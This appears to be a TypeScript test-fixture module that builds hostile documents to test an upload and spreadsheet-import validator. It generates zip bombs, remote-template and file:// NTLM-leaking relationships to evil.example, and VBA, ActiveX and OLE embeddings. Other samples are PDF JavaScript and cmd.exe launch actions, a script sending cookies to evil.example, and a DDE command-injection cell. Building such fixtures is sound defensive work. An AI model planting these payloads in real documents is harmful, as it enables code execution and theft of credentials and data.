import zlib from "node:zlib";

// Real files built byte by byte, so the upload checks meet what browsers would send.

// Node's own (zlib.crc32, Node 20.15+): a bit-by-bit loop here took 3.5 s for one 20 MB test entry.
const crc32 = (buf: Buffer): number => zlib.crc32(buf);

/**
 * A zip archive; `declaredSize` lets a test lie about an entry's unpacked size, and `deflated` gives the entry's
 * compressed bytes ready-made (a bomb too large to deflate in a test).
 */
export function makeZip(entries: { name: string; data: Buffer; declaredSize?: number; deflated?: Buffer }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const compressed = e.deflated ?? zlib.deflateRawSync(e.data);
    const name = Buffer.from(e.name, "utf8");
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    const crc = crc32(e.data);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(e.declaredSize ?? e.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(e.declaredSize ?? e.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, compressed);
    centrals.push(central, name);
    offset += 30 + name.length + compressed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const CT_DOCX = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const CT_DOCM = CT_DOCX.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml");
const DOC = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>联盟章程</w:t></w:r></w:p></w:body></w:document>`;

export const fixtures = {
  docx: () =>
    makeZip([
      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
      { name: "word/document.xml", data: Buffer.from(DOC) },
    ]),
  pdf: () => Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  encryptedPdf: () => Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt 2 0 R>>\n%%EOF\n"),
  exe: () => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(510, 0x90)]),
  legacyDoc: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]),
  docm: () =>
    makeZip([
      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCM) },
      { name: "word/document.xml", data: Buffer.from(DOC) },
    ]),
  docxWithVba: () =>
    makeZip([
      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
      { name: "word/document.xml", data: Buffer.from(DOC) },
      { name: "word/vbaProject.bin", data: Buffer.from("vba") },
    ]),
  // 50 MB of zeros deflates to ~50 KB: a ratio no real document has.
  zipBomb: () =>
    makeZip([
      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
      { name: "word/document.xml", data: Buffer.alloc(50 * 1024 * 1024, 0x20) },
    ]),
  // A small archive that claims to unpack to 3 GB.
  lyingZip: () =>
    makeZip([
      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
      { name: "word/document.xml", data: Buffer.from(DOC), declaredSize: 3_000_000_000 },
    ]),
  zipWithoutWord: () => makeZip([{ name: "hello.txt", data: Buffer.from("hi") }]),
  oversized: () => Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(20 * 1024 * 1024 + 1, 0x20)]),
};

// ---- Spreadsheets built by hand (issue 15): what ExcelJS would never write, but Excel, WPS or an attacker do.

const CT_XLSX = (extra = "") =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>${extra}</Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="成员单位" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;
const esc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
const HEADER_ROW = `<row r="1">${["统一社会信用代码", "单位名称", "单位类型", "联盟职务"].map((h, i) => `<c r="${"ABCD"[i]}1" t="inlineStr"><is><t>${h}</t></is></c>`).join("")}</row>`;

/** A workbook whose first sheet holds `rows` (cells: a string, or { f, v } for a formula with its cached value). */
export function makeXlsx(
  rows: (string | { f: string; v: string })[][],
  opts: { dimension?: string; extraParts?: { name: string; data: Buffer; contentType?: string }[] } = {},
): Buffer {
  const body = rows
    .map((cells, i) => {
      const r = i + 2;
      const cs = cells
        .map((c, j) => {
          const ref = `${String.fromCharCode(65 + j)}${r}`;
          return typeof c === "string"
            ? `<c r="${ref}" t="inlineStr"><is><t>${esc(c)}</t></is></c>`
            : `<c r="${ref}" t="str"><f>${esc(c.f)}</f><v>${esc(c.v)}</v></c>`;
        })
        .join("");
      return `<row r="${r}">${cs}</row>`;
    })
    .join("");
  const dim = opts.dimension ?? `A1:L${rows.length + 1}`;
  const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="${dim}"/><sheetData>${HEADER_ROW}${body}</sheetData></worksheet>`;
  const extra = (opts.extraParts ?? [])
    .filter((p) => p.contentType)
    .map((p) => `<Override PartName="/${p.name}" ContentType="${p.contentType}"/>`)
    .join("");
  return makeZip([
    { name: "[Content_Types].xml", data: Buffer.from(CT_XLSX(extra)) },
    { name: "_rels/.rels", data: Buffer.from(ROOT_RELS) },
    { name: "xl/workbook.xml", data: Buffer.from(WORKBOOK) },
    { name: "xl/_rels/workbook.xml.rels", data: Buffer.from(WORKBOOK_RELS) },
    { name: "xl/worksheets/sheet1.xml", data: Buffer.from(sheet) },
    ...(opts.extraParts ?? []).map((p) => ({ name: p.name, data: p.data })),
  ]);
}

/** Issue 15's freezer: 100,000 formula rows, about 1 MB packed, that the old import parsed whole on the event loop. */
export function formulaFlood(rows = 100_000): Buffer {
  const one = (r: number) =>
    `<row r="${r}"><c r="A${r}" t="str"><f>CONCATENATE("9122",ROW())</f><v>9122${r}</v></c><c r="B${r}" t="str"><f>REPT("联",ROW())</f><v>联</v></c><c r="C${r}"><f>1+1</f><v>2</v></c></row>`;
  const parts: string[] = [];
  for (let r = 2; r <= rows + 1; r++) parts.push(one(r));
  const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:C${rows + 1}"/><sheetData>${HEADER_ROW}${parts.join("")}</sheetData></worksheet>`;
  return makeZip([
    { name: "[Content_Types].xml", data: Buffer.from(CT_XLSX()) },
    { name: "_rels/.rels", data: Buffer.from(ROOT_RELS) },
    { name: "xl/workbook.xml", data: Buffer.from(WORKBOOK) },
    { name: "xl/_rels/workbook.xml.rels", data: Buffer.from(WORKBOOK_RELS) },
    { name: "xl/worksheets/sheet1.xml", data: Buffer.from(sheet) },
  ]);
}

// ---- Hostile documents of issue 15 (each generated here, never downloaded).

const SETTINGS_RELS_REMOTE = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
const rels = (inner: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
const docxWith = (extra: { name: string; data: Buffer | string; deflated?: Buffer; declaredSize?: number }[], types = CT_DOCX) =>
  makeZip([
    { name: "[Content_Types].xml", data: Buffer.from(types) },
    { name: "word/document.xml", data: Buffer.from(DOC) },
    ...extra.map((e) => ({ ...e, data: Buffer.from(e.data) })),
  ]);
const typesWith = (extra: string) => CT_DOCX.replace("</Types>", `${extra}</Types>`);

/**
 * Raw deflate of `mib` MiB of zeros, built from one flushed 1 MiB block repeated: about 1 KB per MiB, so a
 * 1.1 GiB bomb is a 1 MB file that takes no time to make.
 */
export function zeroBomb(mib: number): Buffer {
  const block = zlib.deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: zlib.constants.Z_SYNC_FLUSH });
  return Buffer.concat([...Array.from({ length: mib }, () => block), Buffer.from([0x03, 0x00])]);
}

const pdf = (body: string) => Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${body}\ntrailer<</Size 9/Root 1 0 R>>\nstartxref\n9\n%%EOF\n`, "latin1");
const catalog = (extra: string) => `1 0 obj<</Type/Catalog/Pages 2 0 R${extra}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj`;

/** Each hostile file with the refusal every document upload path must give. */
export const hostileDocuments = {
  // A 1 MB .docx whose word/document.xml claims 4 KB and inflates to 1.1 GiB.
  docxLyingBomb: () =>
    makeZip([
      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
      { name: "word/document.xml", data: Buffer.alloc(0), deflated: zeroBomb(1126), declaredSize: 4096 },
    ]),
  docxRemoteTemplate: () =>
    docxWith([
      { name: "word/_rels/settings.xml.rels", data: SETTINGS_RELS_REMOTE },
      { name: "word/settings.xml", data: '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>' },
    ]),
  // The same relationship spelled with character references and another case: an XML parser reads it as the original.
  docxRemoteTemplateEscaped: () =>
    docxWith([
      {
        name: "word/_rels/settings.xml.rels",
        data: rels(
          `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/&#x61;ttachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="EXTERNAL"/>`,
        ),
      },
    ]),
  // A linked picture fetched from elsewhere when the document opens (leaks the reader's address, or NTLM via file://).
  docxExternalImage: () =>
    docxWith([
      {
        name: "word/_rels/document.xml.rels",
        data: rels(
          `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/x.png" TargetMode="External"/>`,
        ),
      },
    ]),
  // The VBA project under another part name, made code by its content type (mixed case).
  docxVbaByContentType: () =>
    docxWith(
      [{ name: "word/vbaproject.bin", data: "vba" }],
      typesWith(`<Override PartName="/word/vbaproject.bin" ContentType="application/vnd.ms-office.vbaProject"/>`),
    ),
  docxVbaByDefault: () =>
    docxWith([{ name: "word/macros/m.dat", data: "vba" }], typesWith(`<Default Extension="DAT" ContentType="application/vnd.ms-office.VBAPROJECT"/>`)),
  docxVbaRelationship: () =>
    docxWith([
      {
        name: "word/_rels/document.xml.rels",
        data: rels(`<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="code.dat"/>`),
      },
      { name: "word/code.dat", data: "vba" },
    ]),
  docxActiveX: () =>
    docxWith([
      {
        name: "word/_rels/document.xml.rels",
        data: rels(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="ctl/c1.xml"/>`),
      },
      { name: "word/ctl/c1.xml", data: "<ax/>" },
    ]),
  docxOleObject: () =>
    docxWith(
      [{ name: "word/embeddings/oleObject1.bin", data: "ole" }],
      typesWith(`<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`),
    ),
  // An XML entity expansion ("billion laughs") in the content types: a DTD is refused outright.
  docxDoctype: () =>
    makeZip([
      {
        name: "[Content_Types].xml",
        data: Buffer.from(CT_DOCX.replace("<Types", `<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Types`)),
      },
      { name: "word/document.xml", data: Buffer.from(DOC) },
    ]),
  // A plain hyperlink to a web page stays allowed (README: only plain hyperlinks may point outside).
  docxHyperlink: () =>
    docxWith([
      {
        name: "word/_rels/document.xml.rels",
        data: rels(
          `<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://kjt.jl.gov.cn/" TargetMode="External"/>`,
        ),
      },
    ]),
  pdfOpenActionJs: () => pdf(catalog("/OpenAction<</S/JavaScript/JS(app.alert('x'))>>")),
  pdfJsEscaped: () => pdf(catalog("/OpenAction 3 0 R") + "\n3 0 obj<</S/Java#53cript/J#53 4 0 R>>endobj"),
  pdfEncryptEscaped: () => Buffer.from(pdf(catalog("")).toString("latin1").replace("/Size 9", "/Size 9/Encr#79pt 5 0 R"), "latin1"),
  pdfLaunch: () => pdf(catalog("/OpenAction<</S/Launch/F(cmd.exe)>>")),
  pdfEmbeddedFile: () => pdf(catalog("/Names<</Embedded#46iles 3 0 R>>")),
  pdfRichMedia: () => pdf(catalog("") + "\n3 0 obj<</Type/Annot/Subtype/RichMedia>>endobj"),
  // The script inside a compressed object stream (PDF 1.5), invisible to a search of the file's bytes.
  pdfJsInObjectStream: () => {
    const inner = Buffer.from("3 0 <</S/JavaScript/JS(app.alert(1))>>");
    const packed = zlib.deflateSync(inner);
    return Buffer.concat([
      Buffer.from(
        `%PDF-1.7\n${catalog("/OpenAction 3 0 R")}\n5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
        "latin1",
      ),
      packed,
      Buffer.from("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n", "latin1"),
    ]);
  },
  pdfHtml: () => Buffer.from(`%PDF-1.4\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n%%EOF\n`),
};

const memberRow = (name: string | { f: string; v: string }) => ["91220101MA00000019", name, "企业", "成员单位", "中游"];

/** Hostile member-import workbooks of issue 15, each with the refusal the import must give. */
export const hostileSheets = {
  formulaFlood: () => formulaFlood(),
  // The cached result of =HYPERLINK(…) used to become the member's name.
  hyperlinkFormula: () => makeXlsx([memberRow({ f: 'HYPERLINK("https://evil.example/?x="&A2,"吉林省某某科技有限公司")', v: "吉林省某某科技有限公司" })]),
  // DDE: text that runs a program in whoever opens an export of the list.
  literalCmd: () => makeXlsx([memberRow("=cmd|' /C calc'!A0")]),
  // A used range of a million rows declared in a file of a few hundred bytes.
  hugeDimension: () => makeXlsx([memberRow("吉林省某某科技有限公司")], { dimension: "A1:L1048576" }),
  macroEnabled: () =>
    makeXlsx([memberRow("吉林省某某科技有限公司")], {
      extraParts: [{ name: "xl/vbaProject.bin", data: Buffer.from("vba"), contentType: "application/vnd.ms-office.vbaProject" }],
    }),
  externalLink: () =>
    makeXlsx([memberRow("吉林省某某科技有限公司")], {
      extraParts: [
        {
          name: "xl/externalLinks/externalLink1.xml",
          data: Buffer.from("<externalLink/>"),
          contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        },
        {
          name: "xl/externalLinks/_rels/externalLink1.xml.rels",
          data: Buffer.from(
            `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\book.xlsx" TargetMode="External"/></Relationships>`,
          ),
        },
      ],
    }),
  // 1.1 GiB of zeros behind a sheet that claims 4 KB.
  lyingBomb: () =>
    makeZip([
      { name: "[Content_Types].xml", data: Buffer.from(CT_XLSX()) },
      { name: "xl/workbook.xml", data: Buffer.from(WORKBOOK) },
      { name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(0), deflated: zeroBomb(1126), declaredSize: 4096 },
    ]),
};
